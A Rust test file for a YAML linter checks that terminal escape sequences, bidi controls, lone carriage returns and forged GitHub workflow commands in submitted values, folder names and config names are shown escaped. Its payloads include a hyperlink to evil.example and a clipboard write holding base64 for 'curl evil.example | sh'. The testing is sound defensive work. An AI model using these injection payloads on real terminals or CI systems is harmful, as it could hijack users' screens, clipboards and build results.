//! Issue 13, "Injection" (SPEC §7): a submission's text can neither drive the reviewer's terminal
//! nor forge GitHub workflow commands. Each hostile value is linted by the built binary, and every
//! human-facing output (human piped and through a pseudo-terminal with colour, `--format github`,
//! `--diff`, application errors) must hold no raw ESC but selfcheck's own SGR colours, no BEL,
//! backspace, C1 or bidi control, no CR but that of a CRLF, and no line starting with `::` that
//! selfcheck did not write. JSON and SARIF keep the values exactly.

use crate::common::{self, clean_copy, selfcheck};

use regex::Regex;
use selfcheck::untrusted;
use std::path::{Path, PathBuf};
use std::process::Command;

/// The outputs of one hostile submission.
struct Outputs {
    human: String,
    /// Human output through a pseudo-terminal, with colour.
    tty: String,
    github: String,
    diff: String,
}

/// `payload` as a YAML double-quoted escape sequence, so that the value holds it.
fn yaml_escaped(payload: &str) -> String {
    payload
        .chars()
        .map(|c| match c {
            '"' => "\\\"".to_owned(),
            '\\' => "\\\\".to_owned(),
            c if c.is_control() || untrusted::is_unsafe(c) => format!("\\u{:04x}", c as u32),
            c => c.to_string(),
        })
        .collect()
}

fn replace(dir: &Path, rel: &str, from: &str, to: &str) {
    let path = dir.join(rel);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains(from), "{rel} holds no {from:?}");
    std::fs::write(&path, text.replacen(from, to, 1)).unwrap();
}

/// The clean submission with `payload` in the Brazilian return phone (RET007 quotes the value),
/// and the Spanish postal code without its prefix (RET003, which `--diff` fixes).
fn with_phone(payload: &str) -> (tempfile::TempDir, PathBuf) {
    let (tmp, dir) = clean_copy();
    replace(
        &dir,
        "returns.yaml",
        "phone: \"+55 11 91234-5678\"",
        &format!("phone: \"+55 11 91234-5678{}\"", yaml_escaped(payload)),
    );
    replace(
        &dir,
        "returns.yaml",
        "postal_code: CP 28009",
        "postal_code: 28009",
    );
    (tmp, dir)
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).expect("output is UTF-8")
}

fn run(args: &[&str], dir: &Path) -> (String, String) {
    let (_, out, err) = common::output(
        selfcheck()
            .args(["lint", "--today", "2026-11-20"])
            .arg(dir)
            .args(args),
    );
    (out, err)
}

/// Human output through a pseudo-terminal (`script` from util-linux), colour on.
fn through_a_terminal(dir: &Path) -> String {
    let out = Command::new("script")
        .args([
            "-qec",
            // No CR added by the terminal to each line end; standard error (progress) left out.
            "stty -onlcr 2>/dev/null; exec \"$SELFCHECK_BIN\" lint \"$SELFCHECK_DIR\" 2>/dev/null",
            "/dev/null",
        ])
        .env("SELFCHECK_BIN", common::bin())
        .env("SELFCHECK_DIR", dir)
        .env_remove("NO_COLOR")
        .env_remove("LANG")
        .env_remove("LC_ALL")
        .env_remove("LANGUAGE")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    text(&out.stdout)
}

fn outputs(dir: &Path) -> Outputs {
    let (human, human_err) = run(&[], dir);
    let (github, github_err) = run(&["--format", "github"], dir);
    let (diff, diff_err) = run(&["--diff"], dir);
    let tty = through_a_terminal(dir);
    for (what, out) in [
        ("human", &human),
        ("human (stderr)", &human_err),
        ("github (stderr)", &github_err),
        ("--diff", &diff),
        ("--diff (stderr)", &diff_err),
    ] {
        assert_safe(what, out);
        assert_no_command(what, out);
    }
    assert_safe("human through a terminal", &tty);
    assert_no_command("human through a terminal", &tty);
    assert!(
        Regex::new(r"\x1b\[[0-9;]*m").unwrap().is_match(&tty),
        "no colour through a terminal:\n{tty}"
    );
    assert_safe("github", &github);
    assert_only_own_commands(&github);
    Outputs {
        human,
        tty,
        github,
        diff,
    }
}

/// `out` without selfcheck's colours (SGR).
fn without_colour(out: &str) -> String {
    Regex::new(r"\x1b\[[0-9;]*m")
        .unwrap()
        .replace_all(out, "")
        .into_owned()
}

/// No escape sequence but SGR colours, no control but TAB, LF and the CR of a CRLF, no C1 or
/// bidi control.
fn assert_safe(what: &str, out: &str) {
    let plain = without_colour(out);
    for (i, c) in plain.char_indices() {
        let crlf = c == '\r' && plain[i + 1..].starts_with('\n');
        let allowed = c == '\t' || c == '\n' || crlf;
        assert!(
            allowed || !untrusted::is_unsafe(c),
            "{what}: raw U+{:04X} at byte {i}:\n{out}",
            c as u32
        );
    }
}

/// No line starts with `::`.
fn assert_no_command(what: &str, out: &str) {
    for line in without_colour(out).split(['\n', '\r']) {
        assert!(
            !line.starts_with("::"),
            "{what}: a line is a command: {line:?}"
        );
    }
}

/// Every line is one of selfcheck's own annotations, none a command smuggled in by a value.
fn assert_only_own_commands(out: &str) {
    let own =
        Regex::new(r"^::(error|warning|notice) file=[^:\s]*(,[a-zA-Z]+=[^:,\s]*)*::").unwrap();
    for line in out.split(['\n', '\r']).filter(|l| !l.is_empty()) {
        assert!(own.is_match(line), "github: not an annotation: {line:?}");
    }
}

/// Lints `payload` in a value (RET007's message quotes it) and checks every output.
fn value_case(payload: &str) -> Outputs {
    let (_tmp, dir) = with_phone(payload);
    let out = outputs(&dir);
    let shown = untrusted::line(payload);
    assert!(out.human.contains("RET007"), "{}", out.human);
    assert!(out.human.contains(&*shown), "{}", out.human);
    assert!(out.github.contains(&*shown), "{}", out.github);
    assert!(without_colour(&out.tty).contains(&*shown), "{}", out.tty);
    // The fix of the postal code is still offered.
    assert!(
        out.diff.contains("+    postal_code: CP 28009"),
        "{}",
        out.diff
    );
    out
}

#[test]
#[cfg_attr(not(has_script), ignore = "needs script")]
fn esc_csi_clear_screen_is_shown_escaped() {
    value_case("\u{1b}[2J\u{1b}[H\u{1b}[31mOK");
}

#[test]
#[cfg_attr(not(has_script), ignore = "needs script")]
fn osc_0_window_title_is_shown_escaped() {
    value_case("\u{1b}]0;approved by compliance\u{7}");
}

#[test]
#[cfg_attr(not(has_script), ignore = "needs script")]
fn osc_8_hyperlink_is_shown_escaped() {
    value_case("\u{1b}]8;;https://evil.example/\u{1b}\\click here\u{1b}]8;;\u{1b}\\");
}

#[test]
#[cfg_attr(not(has_script), ignore = "needs script")]
fn osc_52_clipboard_write_is_shown_escaped() {
    value_case("\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}");
}

#[test]
#[cfg_attr(not(has_script), ignore = "needs script")]
fn bel_is_shown_escaped() {
    value_case("\u{7}\u{7}\u{7}");
}

#[test]
#[cfg_attr(not(has_script), ignore = "needs script")]
fn backspace_is_shown_escaped() {
    value_case("\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}valid");
}

#[test]
#[cfg_attr(not(has_script), ignore = "needs script")]
fn c1_csi_is_shown_escaped() {
    value_case("\u{9b}2J\u{9b}H\u{9d}0;title\u{9c}");
}

#[test]
#[cfg_attr(not(has_script), ignore = "needs script")]
fn rlo_and_lri_bidi_controls_are_shown_escaped() {
    let payload = "\u{202e}0000 11 55+\u{202c} \u{2066}x\u{2069}";
    value_case(payload);
    // Raw in the source, on a line a finding shows and the fix's diff holds.
    let (_tmp, dir) = with_phone("");
    replace(
        &dir,
        "returns.yaml",
        "city: Madrid",
        "city: \"Madrid \u{202e}dirdaM\u{202c} \u{2067}x\u{2069}\"",
    );
    replace(
        &dir,
        "returns.yaml",
        "postal_code: 28009",
        "postal_code: 28009 # \u{202e}9008 PC\u{202c}",
    );
    let out = outputs(&dir);
    assert!(
        out.diff.contains("\\u{202e}dirdaM\\u{202c}"),
        "{}",
        out.diff
    );
    assert!(
        out.human.contains("# \\u{202e}9008 PC\\u{202c}"),
        "{}",
        out.human
    );
}

#[test]
#[cfg_attr(not(has_script), ignore = "needs script")]
fn a_lone_cr_cannot_overwrite_the_line_it_is_on() {
    // On a terminal, `28009` would read `CP 28009`: the CR returns to the start of the line and
    // the comment writes over it. YAML reads the lone CR as a line break, and so does selfcheck:
    // the comment is a line of its own, and no CR reaches the terminal.
    let (_tmp, dir) = with_phone("");
    replace(
        &dir,
        "returns.yaml",
        "postal_code: 28009\n",
        "postal_code: 28009\r    #           CP 28009\n",
    );
    let out = outputs(&dir);
    assert!(!out.human.contains('\r'), "{}", out.human);
    assert!(
        out.human.contains("9 │     postal_code: 28009\n"),
        "{}",
        out.human
    );
    assert!(out.human.contains("returns.yaml:9:18"), "{}", out.human);
    let caret_line = out
        .human
        .lines()
        .skip_while(|l| !l.contains("│     postal_code: 28009"))
        .nth(1)
        .unwrap();
    assert_eq!(
        caret_line.find('^').unwrap() - caret_line.find('│').unwrap(),
        "│     postal_code: ".len()
    );
    // The diff shows lines as a diff tool splits them; the CR is shown, never written.
    assert!(
        out.diff.contains("-    postal_code: 28009\\r"),
        "{}",
        out.diff
    );
    assert!(
        out.github.contains("line=9,endLine=9,col=18"),
        "{}",
        out.github
    );
}

#[test]
#[cfg_attr(not(has_script), ignore = "needs script")]
fn stop_commands_in_a_value_with_an_embedded_newline_is_not_a_command() {
    let out = value_case("\n::stop-commands::pwned\n::error file=x.yaml::forged");
    assert!(
        out.github
            .contains("\\u{a}::stop-commands::pwned\\u{a}::error file=x.yaml::forged"),
        "{}",
        out.github
    );
}

#[test]
#[cfg_attr(not(has_script), ignore = "needs script")]
fn stop_commands_after_a_raw_cr_in_a_plain_scalar_is_not_a_command() {
    // Valid YAML: the CR is a line break inside the plain scalar `28009 ::stop-commands::x`.
    let (_tmp, dir) = with_phone("");
    replace(
        &dir,
        "returns.yaml",
        "postal_code: 28009\n",
        "postal_code: 28009\r      ::stop-commands::x\n",
    );
    let out = outputs(&dir);
    // The CR is a line break: the second line of the value is shown on a line of its own,
    // behind the line number and gutter, never at the start of an output line.
    assert!(!out.human.contains('\r'), "{}", out.human);
    assert!(
        out.human.contains("10 │ │       ::stop-commands::x"),
        "{}",
        out.human
    );
    assert!(!out.github.contains('\r'));
}

#[test]
#[cfg_attr(not(has_script), ignore = "needs script")]
fn a_folder_name_cannot_break_lines_or_drive_the_terminal() {
    // The seller's folder, found in an agency tree: its name is in every header and path.
    let (tmp, dir) = with_phone("");
    let name = "seller\u{1b}]0;t\u{7}\n::stop-commands::x\r\u{202e}";
    let hostile = tmp.path().join("agency").join(name);
    std::fs::create_dir_all(hostile.parent().unwrap()).unwrap();
    std::fs::rename(&dir, &hostile).unwrap();
    let out = outputs(&tmp.path().join("agency"));
    let shown = untrusted::line(name);
    assert!(out.human.contains(&*shown), "{}", out.human);
    assert!(out.diff.contains(&*shown), "{}", out.diff);
    assert!(
        out.github
            .contains("seller\\u{1b}]0;t\\u{7}\\u{a}%3A%3Astop-commands%3A%3Ax\\u{d}\\u{202e}"),
        "{}",
        out.github
    );
}

#[test]
fn a_broken_config_file_with_escapes_is_an_error_shown_escaped() {
    let (tmp, dir) = clean_copy();
    let config = tmp.path().join("bad\u{1b}[2J.yaml");
    std::fs::write(
        &config,
        "ignore: [CUS001]\nrules:\n  bogus\u{1b}]0;pwned\u{7}\u{1b}[2J: 1\r::stop-commands::x \u{202e}\n",
    )
    .unwrap();
    let out = selfcheck()
        .args(["lint", "--today", "2026-11-20"])
        .arg(&dir)
        .arg("--config")
        .arg(&config)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    assert_safe("application error", &err);
    assert_no_command("application error", &err);
    assert!(err.contains("bad\\u{1b}[2J.yaml"), "{err}");
    // The lone CR ends line 3, as YAML reads it; no CR reaches the terminal.
    assert!(
        err.contains("3 │   bogus\\u{1b}]0;pwned\\u{7}\\u{1b}[2J: 1\n"),
        "{err}"
    );
    assert!(!err.contains('\r'), "{err}");
}

#[test]
fn an_error_naming_a_missing_path_shows_it_escaped() {
    let out = selfcheck()
        .args(["lint", "--today", "2026-11-20"])
        .arg("no-such\u{1b}]0;t\u{7}\n::stop-commands::x")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    assert_safe("application error", &err);
    assert_no_command("application error", &err);
    assert!(
        err.contains("no-such\\u{1b}]0;t\\u{7}\\u{a}::stop-commands::x"),
        "{err}"
    );
}

/// Every string of a JSON document.
fn strings(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|v| strings(v, out)),
        serde_json::Value::Object(o) => o.values().for_each(|v| strings(v, out)),
        _ => {}
    }
}

#[test]
fn json_and_sarif_keep_hostile_values_exactly() {
    let payload = "\u{1b}]8;;https://evil.example/\u{1b}\\x\u{7}\u{9b}2J\r\n::stop-commands::x \u{202e}\u{2066}";
    let (_tmp, dir) = with_phone(payload);
    // A SARIF message writes a literal bracket `\]`: `[text](id)` is a link there.
    let in_sarif = payload.replace('[', "\\[").replace(']', "\\]");
    for (format, value) in [("json", payload), ("sarif", in_sarif.as_str())] {
        let (out, _) = run(&["--format", format], &dir);
        let doc: serde_json::Value = serde_json::from_str(&out).unwrap();
        let mut all = Vec::new();
        strings(&doc, &mut all);
        assert!(
            all.iter()
                .any(|s| s.contains(&format!("+55 11 91234-5678{value}"))),
            "{format} lost the value:\n{out}"
        );
    }
}
